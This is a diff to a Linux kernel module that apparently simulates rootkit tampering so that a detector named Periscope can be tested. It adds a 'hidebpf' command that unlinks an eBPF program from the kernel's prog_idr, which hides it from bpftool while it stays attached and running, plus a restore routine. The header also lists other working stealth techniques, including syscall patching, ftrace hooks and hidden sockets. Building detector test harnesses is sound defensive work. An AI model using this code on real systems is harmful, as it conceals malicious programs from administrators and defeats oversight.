@@ -21,7 +21,10 @@
  *   hidesock PORT                  unhash the IPv4 TCP listener on PORT from tcp_hashinfo's listening hash: gone from
  *                                  /proc/net/tcp and ss, still accepting connections already queued (Periscope's
  *                                  sockets cross-view finds it through the owner's file table)
- *   restore                        undo syscall, patch, ftrace, hidepid, usercode and hidesock (not hide: see below)
+ *   hidebpf ID                     remove eBPF program ID from prog_idr (idr_remove under prog_idr_lock): gone from
+ *                                  bpftool and every BPF_PROG_GET_NEXT_ID walk, still attached and running (Periscope's
+ *                                  bpf cross-view finds it where it is attached); a reference is held until restore
+ *   restore                        undo syscall, patch, ftrace, hidepid, usercode, hidesock and hidebpf (not hide)
  *   status                         what is currently in effect, and the ftrace hit count
  *
  * One attack of each kind may be in effect at a time; a second one is refused until `restore`.
@@ -58,6 +61,8 @@
 #include <linux/module.h>
 #include <linux/kernel.h>
 #include <linux/kprobes.h>
+#include <linux/bpf.h>
+#include <linux/idr.h>
 #include <linux/proc_fs.h>
 #include <linux/uaccess.h>
 #include <linux/mutex.h>
@@ -523,6 +528,8 @@ static int cmd_flaghide(char *arg)
 /* Attacks appended at the end of this file (issue 13: cross-views); undo_all calls their undo. */
 static int cmd_hidesock(char *arg);
 static bool undo_hidesock(void);
+static int cmd_hidebpf(char *arg);
+static bool undo_hidebpf(void);
 
 static void undo_all(void)
 {
@@ -583,6 +590,7 @@ static void undo_all(void)
 		any = true;
 	}
 	any |= undo_hidesock();
+	any |= undo_hidebpf();
 	if (!any)
 		report("restore nothing");
 }
@@ -634,6 +642,8 @@ static ssize_t tamper_write(struct file *file, const char __user *ubuf, size_t c
 		ret = cmd_flaghide(a1);
 	else if (!strcmp(verb, "hidesock"))
 		ret = cmd_hidesock(a1);
+	else if (!strcmp(verb, "hidebpf"))
+		ret = cmd_hidebpf(a1);
 	else if (!strcmp(verb, "restore")) {
 		undo_all();
 		ret = 0;
@@ -641,7 +651,7 @@ static ssize_t tamper_write(struct file *file, const char __user *ubuf, size_t c
 		cmd_status();
 		ret = 0;
 	} else
-		ret = fail(-EINVAL, "error: unknown command '%s' (syscall, patch, ftrace, hide, unhide, rename, hidepid, usercode, flaghide, hidesock, restore, status)",
+		ret = fail(-EINVAL, "error: unknown command '%s' (syscall, patch, ftrace, hide, unhide, rename, hidepid, usercode, flaghide, hidesock, hidebpf, restore, status)",
 			   verb);
 	mutex_unlock(&tamper_lock);
 	return ret ? ret : count;
@@ -756,5 +766,67 @@ static bool undo_hidesock(void)
 	report("restore hidesock %u sock=0x%lx %s", hs.port, (unsigned long)hs.sk, relinked ? "relinked" : "gone (closed)");
 	sock_put(hs.sk);
 	hs.active = false;
+	return true;
+}
+
+/*
+ * hidebpf ID: what eBPF rootkits do to vanish from bpftool: the program's id is removed from prog_idr (static in
+ * kernel/bpf/syscall.c, found through kallsyms with its lock prog_idr_lock), so BPF_PROG_GET_NEXT_ID skips it, while
+ * whatever it is attached to keeps running it. A reference is held while hidden, so the program cannot be freed with
+ * a dangling id; restore puts it back under the same id (idr_alloc of exactly [ID, ID+1)).
+ */
+static struct {
+	bool active;
+	struct bpf_prog *prog;
+	u32 id;
+} hb;
+
+static int cmd_hidebpf(char *arg)
+{
+	struct idr *idr = (struct idr *)lookup("prog_idr");
+	spinlock_t *lock = (spinlock_t *)lookup("prog_idr_lock");
+	struct bpf_prog *prog;
+	unsigned long flags;
+	unsigned int id;
+
+	if (!arg || kstrtouint(arg, 0, &id) || !id || id > INT_MAX)
+		return fail(-EINVAL, "error hidebpf: usage: hidebpf ID");
+	if (hb.active)
+		return fail(-EBUSY, "error hidebpf: program %u already hidden; restore first", hb.id);
+	if (!idr || !lock)
+		return fail(-ENOENT, "error hidebpf: kallsyms has no prog_idr or prog_idr_lock");
+	spin_lock_irqsave(lock, flags);
+	prog = idr_find(idr, id);
+	if (prog) {
+		bpf_prog_inc(prog);
+		idr_remove(idr, id);
+	}
+	spin_unlock_irqrestore(lock, flags);
+	if (!prog)
+		return fail(-ENOENT, "error hidebpf: no program with id %u", id);
+	hb.prog = prog;
+	hb.id = id;
+	hb.active = true;
+	report("hidebpf %u prog=0x%lx", id, (unsigned long)prog);
+	return 0;
+}
+
+static bool undo_hidebpf(void)
+{
+	struct idr *idr = (struct idr *)lookup("prog_idr");
+	spinlock_t *lock = (spinlock_t *)lookup("prog_idr_lock");
+	unsigned long flags;
+	int got;
+
+	if (!hb.active)
+		return false;
+	idr_preload(GFP_KERNEL);
+	spin_lock_irqsave(lock, flags);
+	got = idr_alloc(idr, hb.prog, hb.id, hb.id + 1, GFP_ATOMIC);
+	spin_unlock_irqrestore(lock, flags);
+	idr_preload_end();
+	report("restore hidebpf %u prog=0x%lx %s", hb.id, (unsigned long)hb.prog, got == (int)hb.id ? "relinked" : "not relinked");
+	bpf_prog_put(hb.prog);
+	hb.active = false;
 	return true;
 }
